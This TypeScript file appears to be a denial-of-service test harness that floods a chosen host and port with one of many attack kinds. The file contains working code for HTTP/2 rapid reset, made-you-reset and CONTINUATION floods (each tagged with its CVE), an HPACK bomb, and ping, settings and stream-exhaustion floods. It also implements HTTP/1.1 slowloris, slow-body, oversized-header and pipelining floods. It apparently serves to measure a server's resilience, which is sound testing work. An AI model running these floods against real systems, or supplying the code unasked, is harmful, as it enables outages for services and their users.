// Floods of one kind for some seconds: `node flood.ts KIND HOST PORT SECONDS`. Prints what became of it as one JSON line.
import { connect, type Socket } from 'node:net';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  type Field,
  fieldBlock,
  integer,
  literal,
  openHttp2,
  type RawHttp2,
} from './raw-http2.ts';

const [kind = '', host = '', portText = '0', secondsText = '5', connectionsText = '50'] =
  process.argv.slice(2);
const port = Number(portText);
const untilMs = performance.now() + Number(secondsText) * 1000;
const goesOn = (): boolean => performance.now() < untilMs;

const GET: readonly Field[] = [
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/flood'],
  [':authority', 'shop'],
];

function turn(): Promise<void> {
  return new Promise((resolve) => setImmediate(resolve));
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** What is written is really gone, so that this program's memory is not what is measured. */
async function drained(socket: Socket): Promise<void> {
  while (socket.writableLength > 1 << 20 && !socket.destroyed) await turn();
}

/** Opens a connection again and again and floods each until the other side ends it. */
async function withHttp2(
  flood: (session: RawHttp2, streamId: number) => void,
): Promise<{ readonly connections: number; readonly rounds: number; readonly ended: number }> {
  let connections = 0;
  let rounds = 0;
  let ended = 0;
  while (goesOn()) {
    const session = await openHttp2(host, port);
    connections += 1;
    for (let streamId = 1; goesOn() && !session.ended && streamId < 0x7fffff00; streamId += 2) {
      flood(session, streamId);
      rounds += 1;
      if (rounds % 64 === 0) {
        await drained(session.socket);
        await turn();
      }
    }
    if (session.ended) ended += 1;
    session.socket.destroy();
  }
  return { connections, rounds, ended };
}

async function withHttp1(
  count: number,
  behave: (socket: Socket) => Promise<void>,
): Promise<{ readonly connections: number; readonly answers: Readonly<Record<string, number>> }> {
  const answers: Record<string, number> = {};
  let connections = 0;
  const count1 = (what: string): void => {
    answers[what] = (answers[what] ?? 0) + 1;
  };
  const one = async (): Promise<void> => {
    while (goesOn()) {
      const socket = connect({ host, port });
      connections += 1;
      let text = '';
      const ended = new Promise<void>((resolve) => socket.on('close', () => resolve()));
      socket.on('data', (chunk: Buffer) => {
        if (text.length < 100) text += chunk.toString('latin1');
      });
      socket.on('error', () => socket.destroy());
      await Promise.race([behave(socket), ended]);
      if (!socket.destroyed && goesOn()) await Promise.race([ended, pause(1000)]);
      socket.destroy();
      count1(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 'none');
    }
  };
  await Promise.all(Array.from({ length: count }, one));
  return { connections, answers };
}

const KINDS: Readonly<Record<string, () => Promise<object>>> = {
  /** A request and its cancellation, at once (CVE-2023-44487). */
  'rapid-reset': () =>
    withHttp2((session, streamId) => {
      session.headers(streamId, GET);
      session.frame(FRAME.RST_STREAM, 0, streamId, Buffer.from([0, 0, 0, 8]));
    }),
  /** A malformed request makes the other side reset, which costs it the same (CVE-2025-8671). */
  'made-you-reset': () =>
    withHttp2((session, streamId) => {
      session.headers(streamId, GET, END_HEADERS);
      session.frame(FRAME.WINDOW_UPDATE, 0, streamId, Buffer.from([0, 0, 0, 0]));
    }),
  pings: () => withHttp2((session) => session.frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  settings: () => withHttp2((session) => session.frame(FRAME.SETTINGS, 0, 0)),
  'empty-data': () =>
    withHttp2((session, streamId) => {
      if (streamId === 1) session.headers(1, GET, END_HEADERS);
      session.frame(FRAME.DATA, 0, 1);
    }),
  /** A field block that never ends (CVE-2024-27316). */
  continuation: () =>
    withHttp2((session, streamId) => {
      if (streamId === 1) session.headers(1, GET, END_STREAM);
      session.frame(FRAME.CONTINUATION, 0, 1, fieldBlock([['x-more', 'm'.repeat(1000)]]));
    }),
  /** One large field, put into the table once and then named thousands of times a block. */
  'hpack-bomb': () =>
    withHttp2((session, streamId) => {
      const bomb = Buffer.concat([Buffer.from([0x40]), literal('x-bomb'), literal('b'.repeat(3900))]);
      const again = Buffer.concat(Array.from({ length: 8000 }, () => integer(62, 7, 0x80)));
      session.frame(
        FRAME.HEADERS,
        END_STREAM | END_HEADERS,
        streamId,
        Buffer.concat([fieldBlock(GET), bomb, again]),
      );
    }),
  /** As many streams as are let, whose answers nobody takes. */
  'closed-windows': async () => {
    const settings = Buffer.alloc(6);
    settings.writeUInt16BE(4, 0);
    const sessions = await Promise.all(
      Array.from({ length: Number(connectionsText) }, () => openHttp2(host, port, settings)),
    );
    for (const session of sessions) for (let id = 1; id < 200; id += 2) session.headers(id, GET);
    while (goesOn()) await pause(100);
    const ended = sessions.filter((session) => session.ended).length;
    for (const { socket } of sessions) socket.destroy();
    return { connections: sessions.length, ended };
  },
  /** A byte now and then of a request that never ends. */
  'slow-loris': () =>
    withHttp1(500, async (socket) => {
      socket.write('GET /flood HTTP/1.1\r\nHost: shop\r\n');
      while (goesOn() && !socket.destroyed) {
        socket.write(`X-${Math.random()}: a\r\n`);
        await pause(1000);
      }
    }),
  'slow-body': () =>
    withHttp1(500, async (socket) => {
      socket.write('POST /flood HTTP/1.1\r\nHost: shop\r\nContent-Length: 1000000\r\n\r\n');
      while (goesOn() && !socket.destroyed) {
        socket.write('x');
        await pause(1000);
      }
    }),
  'many-headers': () =>
    withHttp1(20, async (socket) => {
      socket.write('GET /flood HTTP/1.1\r\nHost: shop\r\n');
      for (let header = 0; header < 20_000 && !socket.destroyed; header++) {
        socket.write(`X-${header}: ${'v'.repeat(100)}\r\n`);
        await drained(socket);
      }
    }),
  'large-header': () =>
    withHttp1(20, async (socket) => {
      socket.write('GET /flood HTTP/1.1\r\nHost: shop\r\nX-Large: ');
      for (let chunk = 0; chunk < 1000 && !socket.destroyed; chunk++) {
        socket.write('v'.repeat(10_000));
        await drained(socket);
      }
    }),
  'large-target': () =>
    withHttp1(20, async (socket) => {
      socket.write('GET /');
      for (let chunk = 0; chunk < 1000 && !socket.destroyed; chunk++) {
        socket.write('t'.repeat(10_000));
        await drained(socket);
      }
    }),
  /** Requests in a row whose answers nobody reads. */
  pipeline: () =>
    withHttp1(20, async (socket) => {
      socket.pause();
      while (goesOn() && !socket.destroyed) {
        socket.write('GET /flood HTTP/1.1\r\nHost: shop\r\n\r\n'.repeat(100));
        await Promise.race([drained(socket), pause(1000)]);
        if (socket.writableLength > 1 << 20) return;
      }
    }),
};

const flood = KINDS[kind];
if (flood === undefined) throw new Error(`expected one of ${Object.keys(KINDS).join(', ')}, got ${kind}`);
console.log(JSON.stringify(await flood()));
process.exit(0);
